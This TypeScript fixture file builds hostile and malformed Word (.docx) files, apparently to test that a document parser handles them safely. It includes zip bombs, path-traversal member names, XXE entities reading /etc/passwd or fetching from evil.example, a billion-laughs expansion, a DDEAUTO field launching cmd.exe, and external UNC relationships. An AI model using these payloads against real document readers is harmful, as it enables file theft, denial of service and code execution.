import { deflateRawSync } from 'node:zlib';
import { seededRandom } from '../helpers/random.ts';
import { bad, type HostileFile, odd } from './hostile-file.ts';
import { docx, document, HEAD, p, R, relationships, styles, stylesRel, toMain, types, W } from './raw-docx.ts';
import { blanksBehind, packBlanks, type RawEnd, type RawMember, rawZip } from './raw-zip.ts';

const text = (said: string): Buffer => Buffer.from(said, 'utf8');

const main: RawMember = { name: 'word/document.xml', data: text(document(p('A report.'))) };
const others: readonly RawMember[] = [
  { name: '[Content_Types].xml', data: text(types()) },
  { name: '_rels/.rels', data: text(relationships(toMain)) },
];
const withMain = (one: RawMember, end: RawEnd = {}): Buffer => rawZip([...others, one], end);
const claiming = (claims: RawMember['claims'], end: RawEnd = {}): Buffer =>
  withMain({ ...main, ...(claims === undefined ? {} : { claims }) }, end);

/** A document whose text is 120 megabytes of blanks. */
const BOMB = packBlanks(text(`${HEAD}<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>`), 120);
/** Nine megabytes of blanks: less than is suspicious in one member. */
const BLANK = blanksBehind(text(''), 9);
const whole = docx();

/** Lies in the zip itself. */
const zips: readonly HostileFile[] = [
  bad('nothing.docx', ''),
  bad('a-letter.docx', 'P'),
  bad('only-a-signature.docx', Buffer.from('PK\u0003\u0004', 'latin1')),
  bad('only-an-end.docx', whole.subarray(whole.length - 22)),
  bad('half.docx', whole.subarray(0, whole.length >> 1)),
  bad('without-its-end.docx', whole.subarray(0, whole.length - 22)),
  bad('one-byte-short.docx', whole.subarray(0, whole.length - 1)),
  bad('one-byte-long.docx', Buffer.concat([whole, Buffer.from([0])])),
  odd('behind-another-file.docx', Buffer.concat([Buffer.alloc(4096, 0x41), whole])),
  odd('two-in-one.docx', Buffer.concat([whole, whole])),
  bad('wrong-checksum.docx', claiming({ crc: 1 })),
  bad('claims-another-method.docx', claiming({ method: 99 })),
  bad('packed-with-bzip2.docx', claiming({ method: 12 })),
  bad('stored-but-said-deflated.docx', withMain({ ...main, packedBytes: main.data })),
  bad('deflated-but-said-stored.docx', claiming({ method: 0 })),
  bad('encrypted.docx', claiming({ flags: 1 })),
  bad('strongly-encrypted.docx', claiming({ flags: 0x41 })),
  bad('claims-4-gigabytes-packed.docx', claiming({ packed: 0xfffffffe })),
  bad('claims-zip64-without-it.docx', claiming({ packed: 0xffffffff, size: 0xffffffff })),
  odd('claims-to-be-small.docx', claiming({ size: 1 })),
  odd('claims-to-be-huge.docx', claiming({ size: 0xfffffffe })),
  bad('member-before-the-file.docx', claiming({ offset: 0xfffffff0 })),
  bad('member-in-the-directory.docx', claiming({ offset: 700 })),
  bad('members-over-one-another.docx', claiming({ offset: 0 })),
  bad('count-too-many.docx', docx({ end: { count: 9 } })),
  bad('count-sixty-five-thousand.docx', docx({ end: { count: 0xffff } })),
  odd('count-too-few.docx', docx({ end: { count: 3 } })),
  bad('count-none.docx', docx({ end: { count: 0 } })),
  bad('directory-beyond-the-end.docx', docx({ end: { offset: 0xfffffff0 } })),
  bad('directory-at-the-start.docx', docx({ end: { offset: 0 } })),
  odd('on-many-disks.docx', docx({ end: { disk: 7 } })),
  odd('with-a-comment.docx', docx({ end: { comment: text('a comment') } })),
  odd(
    'end-in-the-comment.docx',
    docx({ end: { comment: Buffer.concat([whole.subarray(whole.length - 22), text('x')]) } }),
  ),
  bad('member-twice.docx', rawZip([...others, main, { ...main, data: text(document(p('Another report.'))) }])),
  bad('member-twice-in-capitals.docx', docx({ more: [{ ...main, name: 'Word/Document.XML' }] })),
  bad('climbs.docx', docx({ more: [{ name: '../../../../tmp/climbed.xml', data: text('x') }] })),
  bad('climbs-with-backslashes.docx', docx({ more: [{ name: '..\\..\\climbed.xml', data: text('x') }] })),
  bad('from-the-root.docx', docx({ more: [{ name: '/etc/climbed', data: text('x') }] })),
  bad('from-a-drive.docx', docx({ more: [{ name: 'C:/climbed', data: text('x') }] })),
  bad('from-a-share.docx', docx({ more: [{ name: '\\\\server\\share\\x', data: text('x') }] })),
  bad('name-with-a-nul.docx', docx({ more: [{ name: 'word/a\u0000.xml', data: text('x') }] })),
  bad('name-empty.docx', docx({ more: [{ name: '', data: text('x') }] })),
  odd('name-not-utf8.docx', docx({ more: [{ name: Buffer.from([0x77, 0xff, 0xfe]), data: text('x') }] })),
  odd('name-very-long.docx', docx({ more: [{ name: `word/${'n'.repeat(60_000)}.xml`, data: text('x') }] })),
  odd(
    'name-that-is-an-object.docx',
    docx({
      more: [
        { name: '__proto__', data: text('x') },
        { name: 'constructor', data: text('x') },
      ],
    }),
  ),
  odd('local-name-differs.docx', claiming({ localName: 'word/other.xml' })),
  odd('with-extra-fields.docx', claiming({ extra: Buffer.alloc(2000, 1) })),
  bad('bomb.docx', withMain({ ...main, packedBytes: BOMB })),
  bad('bomb-that-claims-little.docx', withMain({ ...main, packedBytes: BOMB, claims: { size: 1000 } })),
  bad(
    'bomb-in-the-types.docx',
    rawZip([{ name: '[Content_Types].xml', ...blanksBehind(text(''), 120) }, ...others.slice(1), main]),
  ),
  bad('bomb-in-the-styles.docx', docx({ styles: blanksBehind(text(styles().slice(0, -11)), 150) })),
  bad(
    'many-bombs.docx',
    docx({
      more: Array.from({ length: 40 }, (_, n) => ({ name: `word/header${n}.xml`, ...BLANK })),
      documentRels: Array.from(
        { length: 40 },
        (_, n) => `<Relationship Id="h${n}" Type="${R}/chart" Target="header${n}.xml"/>`,
      ).join(''),
    }),
  ),
  odd('a-zip-in-a-zip.docx', docx({ more: [{ name: 'word/embeddings/inner.docx', data: whole }] })),
  bad(
    'ten-thousand-members.docx',
    docx({
      more: Array.from({ length: 10_000 }, (_, n) => ({ name: `word/m${n}.xml`, data: text('x'), stored: true })),
    }),
  ),
  bad('a-truncated-stream.docx', withMain({ ...main, packedBytes: deflateRawSync(main.data).subarray(0, 40) })),
  bad('a-stream-of-noise.docx', withMain({ ...main, packedBytes: noise(2000, 7) })),
  bad('noise.docx', noise(50_000, 3)),
  bad('noise-behind-a-signature.docx', Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), noise(50_000, 4)])),
];

function noise(length: number, seed: number): Buffer {
  const random = seededRandom(seed);
  return Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
}

/** Other kinds of file under the name of a Word paper. */
const kinds: readonly HostileFile[] = [
  bad('a-pdf.docx', '%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer<<>>\n%%EOF\n'.padEnd(200)),
  bad('rich-text.docx', `{\\rtf1\\ansi ${'{'.repeat(5000)}`),
  bad('word-97.docx', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])),
  bad(
    'locked.docx',
    Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.from('EncryptedPackage', 'utf16le'),
      Buffer.alloc(600),
    ]),
  ),
  bad('a-web-page.docx', '<html><script>alert(1)</script></html>'.padEnd(100)),
  bad('a-text.docx', 'The recommendations are set out below.\n'.repeat(40)),
  bad('a-program.docx', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(900, 0x90)])),
  bad('a-7-zip.docx', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(300)])),
  bad('a-gzip.docx', Buffer.concat([Buffer.from('1f8b0800', 'hex'), Buffer.alloc(300)])),
  bad('an-empty-zip.docx', rawZip([])),
  bad(
    'a-workbook.docx',
    docx({ types: types('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') }),
  ),
  bad(
    'a-presentation.docx',
    docx({ types: types('application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml') }),
  ),
  bad('with-macros.docx', docx({ types: types('application/vnd.ms-word.document.macroEnabled.main+xml') })),
  bad('with-hidden-macros.docx', docx({ more: [{ name: 'word/vbaProject.bin', data: text('x') }] })),
  bad('no-types.docx', rawZip([...others.slice(1), main])),
  bad('no-relationships.docx', rawZip([...others.slice(0, 1), main])),
  bad('no-document.docx', rawZip(others)),
  bad(
    'document-elsewhere.docx',
    docx({ rels: relationships(`<Relationship Id="d" Type="${R}/officeDocument" Target="../../etc/passwd"/>`) }),
  ),
  bad(
    'document-outside.docx',
    docx({
      rels: relationships(
        `<Relationship Id="d" Type="${R}/officeDocument" Target="http://evil.example/d.xml" TargetMode="External"/>`,
      ),
    }),
  ),
  bad(
    'document-in-a-folder.docx',
    docx({ rels: relationships(`<Relationship Id="d" Type="${R}/officeDocument" Target="word/"/>`) }),
  ),
];

/** XML that no reader should follow. */
const marks: readonly HostileFile[] = [
  ...(
    [
      ['a-dtd', '<!DOCTYPE w:document>'],
      ['an-entity', '<!DOCTYPE w:document [<!ENTITY a "b">]>'],
      ['a-file-entity', '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>'],
      ['a-web-entity', '<!DOCTYPE w:document SYSTEM "http://evil.example/x.dtd">'],
      ['a-parameter-entity', '<!DOCTYPE w:document [<!ENTITY % a SYSTEM "http://evil.example/x">%a;]>'],
      [
        'a-billion-laughs',
        `<!DOCTYPE w:document [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};">`).join('')}]>`,
      ],
      ['a-dtd-in-small-letters', '<!doctype w:document [<!entity a "b">]>'],
    ] as const
  ).flatMap(([name, dtd]) => [
    bad(`${name}-in-the-document.docx`, docx({ document: document(p('&a;')).replace('?>', `?>${dtd}`) })),
    bad(`${name}-in-the-styles.docx`, docx({ styles: styles().replace('?>', `?>${dtd}`) })),
  ]),
  bad('a-dtd-in-the-types.docx', docx({ types: types().replace('?>', '?><!DOCTYPE Types>') })),
  bad('a-dtd-in-the-relationships.docx', docx({ rels: relationships(toMain).replace('?>', '?><!DOCTYPE x>') })),
  bad(
    'a-dtd-in-utf-16.docx',
    docx({
      document: utf16(
        `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:document><w:document xmlns:w="${W}"><w:body/></w:document>`,
      ),
    }),
  ),
  odd(
    'in-utf-16.docx',
    docx({
      document: utf16(
        `<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="${W}"><w:body>${p('Ok')}</w:body></w:document>`,
      ),
    }),
  ),
  bad(
    'in-utf-16-half-a-letter.docx',
    docx({ document: utf16(`<w:document xmlns:w="${W}"><w:body>${p('\ud800')}</w:body></w:document>`) }),
  ),
  bad('in-utf-16-without-a-mark.docx', docx({ document: Buffer.from(document(p('x')), 'utf16le') })),
  bad(
    'in-utf-32.docx',
    docx({
      document: Buffer.concat([
        Buffer.from([0xff, 0xfe, 0, 0]),
        ...document(p('x'))
          .split('')
          .map((letter) => Buffer.from([letter.charCodeAt(0), 0, 0, 0])),
      ]),
    }),
  ),
  bad('in-latin-1.docx', docx({ document: Buffer.from(document(p('£5')).replace('UTF-8', 'ISO-8859-1'), 'latin1') })),
  bad('in-utf-7.docx', docx({ document: document(p('x')).replace('<w:document', '+ADw-w:document') })),
  bad(
    'not-utf-8.docx',
    docx({ document: Buffer.concat([text(document('').slice(0, -28)), Buffer.from([0xc3, 0x28, 0xff])]) }),
  ),
  bad(
    'overlong-utf-8.docx',
    docx({
      document: Buffer.concat([
        text(`${HEAD}<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>`),
        Buffer.from([0xc0, 0xbc]),
        text('</w:t></w:r></w:p></w:body></w:document>'),
      ]),
    }),
  ),
  bad('nul-in-the-text.docx', docx({ document: document(p('a\u0000b')) })),
  bad('control-letters.docx', docx({ document: document(p('a\u0001\u0008\u000bb')) })),
  bad('nul-by-number.docx', docx({ document: document(p('a&#0;b')) })),
  bad('a-lone-surrogate-by-number.docx', docx({ document: document(p('a&#xD800;b')) })),
  bad('a-non-character-by-number.docx', docx({ document: document(p('a&#xFFFF;b')) })),
  bad('a-number-too-large.docx', docx({ document: document(p('a&#x110000;b')) })),
  bad('an-unknown-entity.docx', docx({ document: document(p('a&nbsp;b')) })),
  bad('unclosed.docx', docx({ document: document('<w:p><w:r>') })),
  bad('wrongly-nested.docx', docx({ document: document('<w:p><w:r></w:p></w:r>') })),
  bad('two-roots.docx', docx({ document: `${document(p('a'))}<w:document xmlns:w="${W}"/>` })),
  bad('no-root.docx', docx({ document: HEAD })),
  bad('blank.docx', docx({ document: '   ' })),
  bad('empty-document.docx', docx({ document: '' })),
  bad('another-root.docx', docx({ document: '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>' })),
  bad('without-a-namespace.docx', docx({ document: '<document><body><p>x</p></body></document>' })),
  bad('an-unknown-prefix.docx', docx({ document: document('<x:p/>') })),
  bad('an-attribute-twice.docx', docx({ document: document('<w:p w:a="1" w:a="2"/>') })),
  bad('a-space-before-the-head.docx', docx({ document: ` ${document(p('a'))}` })),
  bad('deep.docx', docx({ document: document(`${'<w:sdt>'.repeat(100_000)}${'</w:sdt>'.repeat(100_000)}`) })),
  bad(
    'deep-tables.docx',
    docx({
      document: document(`${'<w:tbl><w:tr><w:tc>'.repeat(3000)}${p('x')}${'</w:tc></w:tr></w:tbl>'.repeat(3000)}`),
    }),
  ),
  bad(
    'deep-in-the-types.docx',
    docx({ types: types().replace('</Types>', `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</Types>`) }),
  ),
  bad('a-million-elements.docx', docx({ document: document('<w:p/>'.repeat(1_000_000)) })),
  odd(
    'a-hundred-thousand-attributes.docx',
    docx({ document: document(`<w:p ${Array.from({ length: 100_000 }, (_, n) => `a${n}="x"`).join(' ')}/>`) }),
  ),
  odd(
    'a-hundred-thousand-prefixes.docx',
    docx({
      document: document(`<w:p ${Array.from({ length: 100_000 }, (_, n) => `xmlns:a${n}="urn:${n}"`).join(' ')}/>`),
    }),
  ),
  odd('an-attribute-of-ten-megabytes.docx', docx({ document: document(`<w:p w:rsidR="${'x'.repeat(10 << 20)}"/>`) })),
  odd('a-word-of-ten-megabytes.docx', docx({ document: document(p('x'.repeat(9 << 20))) })),
  odd('a-name-of-a-megabyte.docx', docx({ document: document(`<w:${'n'.repeat(1 << 20)}/>`) })),
  odd('a-comment-of-ten-megabytes.docx', docx({ document: document(`<!--${'x'.repeat(9 << 20)}-->`) })),
  odd(
    'cdata.docx',
    docx({ document: document('<w:p><w:r><w:t><![CDATA[<script>alert(1)</script>]]></w:t></w:r></w:p>') }),
  ),
  odd('an-instruction.docx', docx({ document: document('<?xml-stylesheet href="http://evil.example/x.xsl"?>') })),
  odd(
    'an-include.docx',
    docx({ document: document('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>') }),
  ),
];

function utf16(said: string): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(said, 'utf16le')]);
}

/** Whole Word files with something in them that would fetch, run, loop or overflow. */
const contents: readonly HostileFile[] = [
  ...(
    [
      'attachedTemplate',
      'image',
      'oleObject',
      'frame',
      'subDocument',
      'aFChunk',
      'chart',
      'styles',
      'footnotes',
      'comments',
      'numbering',
    ] as const
  ).map((kind) =>
    odd(
      `${kind}-from-outside.docx`,
      docx({
        documentRels: `<Relationship Id="x" Type="${R}/${kind}" Target="\\\\evil.example\\share\\x" TargetMode="External"/>`,
      }),
    ),
  ),
  ...(['styles', 'numbering', 'comments', 'footnotes', 'chart'] as const).map((kind) =>
    odd(
      `${kind}-that-is-not-there.docx`,
      docx({ documentRels: `<Relationship Id="x" Type="${R}/${kind}" Target="gone.xml"/>` }),
    ),
  ),
  odd('relationships-twice.docx', docx({ documentRels: stylesRel.repeat(3) })),
  odd(
    'a-relationship-to-itself.docx',
    docx({ documentRels: `<Relationship Id="x" Type="${R}/chart" Target="document.xml"/>` }),
  ),
  odd(
    'fifty-thousand-relationships.docx',
    docx({
      documentRels: Array.from(
        { length: 50_000 },
        (_, n) =>
          `<Relationship Id="x${n}" Type="${R}/hyperlink" Target="https://a.example/${n}" TargetMode="External"/>`,
      ).join(''),
    }),
  ),
  odd(
    'a-field-that-runs.docx',
    docx({
      document: document(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
    }),
  ),
  odd(
    'fields-that-never-end.docx',
    docx({ document: document('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'.repeat(5000)) }),
  ),
  odd(
    'fields-that-end-too-often.docx',
    docx({ document: document('<w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'.repeat(5000)) }),
  ),
  odd(
    'styles-in-a-ring.docx',
    docx({
      styles: styles(
        '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>',
      ),
      document: document('<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr></w:p>'),
    }),
  ),
  odd(
    'twenty-thousand-styles-in-a-row.docx',
    docx({
      styles: styles(
        Array.from(
          { length: 20_000 },
          (_, n) => `<w:style w:type="paragraph" w:styleId="S${n}"><w:basedOn w:val="S${n + 1}"/></w:style>`,
        ).join(''),
      ),
      document: document('<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr></w:p>'),
    }),
  ),
  odd(
    'style-called-proto.docx',
    docx({
      styles: styles('<w:style w:type="paragraph" w:styleId="__proto__"><w:name w:val="constructor"/></w:style>'),
      document: document('<w:p><w:pPr><w:pStyle w:val="__proto__"/></w:pPr></w:p>'),
    }),
  ),
  odd(
    'gigantic-numbers.docx',
    docx({
      document: document(
        `<w:p><w:pPr><w:numPr><w:ilvl w:val="${'9'.repeat(400)}"/><w:numId w:val="-${'9'.repeat(400)}"/></w:numPr><w:outlineLvl w:val="1e308"/></w:pPr></w:p><w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>${p('x')}</w:tc></w:tr></w:tbl>`,
      ),
    }),
  ),
  odd(
    'a-table-of-a-billion-columns.docx',
    docx({
      document: document(
        `<w:tbl><w:tblGrid/>${`<w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${p('x')}</w:tc></w:tr>`.repeat(50)}</w:tbl>`,
      ),
    }),
  ),
  odd(
    'rows-that-skip.docx',
    docx({
      document: document(
        `<w:tbl><w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr><w:tc>${p('x')}</w:tc></w:tr></w:tbl>`,
      ),
    }),
  ),
  odd(
    'a-merge-without-a-start.docx',
    docx({ document: document(`<w:tbl><w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr>${p('x')}</w:tc></w:tr></w:tbl>`) }),
  ),
  odd(
    'a-number-of-a-million-digits.docx',
    docx({ document: document(p(`The deficit is £${'9'.repeat(1_000_000)}.`)) }),
  ),
  odd(
    'bait-for-patterns.docx',
    docx({
      document: document(
        [
          `${'a'.repeat(200_000)}!`,
          `${' '.repeat(200_000)}x`,
          `${'1,'.repeat(100_000)}`,
          `${'('.repeat(100_000)}`,
          `${'£1m to '.repeat(30_000)}`,
          `${'1 January '.repeat(30_000)}`,
          `${'A.B.'.repeat(50_000)}`,
          `${'1.1.'.repeat(50_000)}`,
          `${'-'.repeat(200_000)}`,
          `${'Appendix '.repeat(30_000)}`,
        ]
          .map(p)
          .join(''),
      ),
    }),
  ),
  odd('turned-words.docx', docx({ document: document(p('\u202Egnp.exe\u202C \u2066\u200B\uFEFF R1')) })),
  odd(
    'a-numbering-that-repeats.docx',
    docx({
      documentRels: `<Relationship Id="n" Type="${R}/numbering" Target="numbering.xml"/>`,
      more: [
        {
          name: 'word/numbering.xml',
          data: text(
            `${HEAD}<w:numbering xmlns:w="${W}">${'<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="99999999999"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%2%9"/></w:lvl></w:abstractNum>'.repeat(2000)}<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>`,
          ),
        },
      ],
      document: document(
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'.repeat(
          50,
        ),
      ),
    }),
  ),
  odd(
    'comments-about-nothing.docx',
    docx({
      documentRels: `<Relationship Id="c" Type="${R}/comments" Target="comments.xml"/>`,
      more: [
        {
          name: 'word/comments.xml',
          data: text(
            `${HEAD}<w:comments xmlns:w="${W}"><w:comment w:id="-1" w:author="${'x'.repeat(100_000)}"/><w:comment/></w:comments>`,
          ),
        },
      ],
    }),
  ),
  odd('nothing-but-properties.docx', docx({ document: document('<w:sectPr/>') })),
];

/** Everything that may be handed to whatever reads a Word paper. */
export const WORD_PAPERS: readonly HostileFile[] = [...zips, ...kinds, ...marks, ...contents];
